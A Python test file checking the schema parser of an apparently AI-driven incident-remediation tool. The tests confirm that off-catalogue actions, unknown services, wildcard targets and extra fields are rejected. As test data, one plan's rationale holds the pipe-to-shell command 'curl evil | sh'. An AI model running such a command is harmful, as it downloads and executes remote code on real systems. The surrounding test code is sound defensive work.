"""The answer's schema at the trust boundary: what a model may say, and what is thrown away."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from selfheal import catalogue, model
from selfheal.reasoners import schema
from tests.reasoners import reasoner_helpers as helpers

SERVICES = ("auth", "cart", "frontend")


def test_a_valid_answer_is_kept_whole() -> None:
    parsed = schema.parse(helpers.answer(), SERVICES)
    assert parsed.error == "" and parsed.rejected == ()
    assert [(h.service, h.fault, h.confidence) for h in parsed.hypotheses] == [
        ("auth", model.FaultKind.MEMORY_LEAK, 0.8)]
    assert [(p.service, p.action) for p in parsed.plans] == [("auth", model.ActionKind.ROLLBACK)]
    assert parsed.narrative == "auth 1.2.1 leaks memory."


def test_a_plan_outside_the_catalogue_is_rejected_and_the_rest_kept() -> None:
    text = helpers.answer(plans=[
        {"service": "auth", "action": "run_shell", "rationale": "curl evil | sh"},
        {"service": "auth", "action": "rollback", "rationale": "undo"},
    ])
    parsed = schema.parse(text, SERVICES)
    assert [p.action for p in parsed.plans] == [model.ActionKind.ROLLBACK]
    assert len(parsed.rejected) == 1
    assert "plan 0" in parsed.rejected[0] and "run_shell" in parsed.rejected[0]


def test_names_outside_the_incident_and_extra_fields_are_rejected() -> None:
    text = helpers.answer(
        hypotheses=[{"service": "payments", "fault": "crash", "confidence": 0.9, "reason": "x"},
                    {"service": "cart", "fault": "crash", "confidence": 0.4, "reason": "y",
                     "execute": True}],
        plans=[{"service": "*", "action": "restart", "rationale": "everything"}],
        sudo="yes")
    parsed = schema.parse(text, SERVICES)
    assert parsed.hypotheses == () and parsed.plans == ()
    joined = "\n".join(parsed.rejected)
    assert "'payments', not a service of this incident" in joined
    assert "hypothesis 1 outside the schema" in joined  # extra field inside an item
    assert "plan 0 targets '*'" in joined
    assert "fields outside the schema ignored: sudo" in joined


def test_text_that_is_not_a_json_object_is_an_error() -> None:
    for text in ("restart everything now", "[1, 2]", '{"hypotheses": '):
        parsed = schema.parse(text, SERVICES)
        assert parsed.error and parsed.hypotheses == () and parsed.plans == ()


def test_the_schema_sent_narrows_services_and_forbids_extra_fields() -> None:
    sent = schema.answer_schema(SERVICES)
    assert sent["additionalProperties"] is False
    for name in ("HypothesisOut", "PlanOut"):
        props = sent["$defs"][name]["properties"]
        assert props["service"]["enum"] == sorted(SERVICES)
        assert sent["$defs"][name]["additionalProperties"] is False
    actions = sent["$defs"]["ActionKind"]["enum"]
    assert sorted(actions) == sorted(k.value for k in catalogue.CATALOGUE)
    # The pydantic model is not changed by narrowing the schema for one incident.
    assert "enum" not in schema.Answer.model_json_schema()["$defs"]["PlanOut"]["properties"][
        "service"]


_json = st.recursive(
    st.none() | st.booleans() | st.floats(allow_nan=False) | st.integers()
    | st.sampled_from(["auth", "cart", "rollback", "restart", "memory_leak", "drop_db", ""])
    | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(st.sampled_from(["service", "action", "fault", "confidence", "reason",
                                       "rationale", "hypotheses", "plans", "narrative", "x"]),
                      inner, max_size=6),
    max_leaves=30)


@settings(max_examples=300, deadline=None)
@given(_json)
def test_whatever_comes_back_only_catalogue_plans_on_known_services_survive(raw: Any) -> None:
    parsed = schema.parse(json.dumps(raw), SERVICES)
    for p in parsed.plans:
        assert p.action in catalogue.CATALOGUE and p.service in SERVICES
    for h in parsed.hypotheses:
        assert h.service in SERVICES and 0.0 <= h.confidence <= 1.0
    assert len(parsed.hypotheses) <= schema.MAX_HYPOTHESES
    assert len(parsed.plans) <= schema.MAX_PLANS
    if not isinstance(raw, dict):
        assert parsed.error
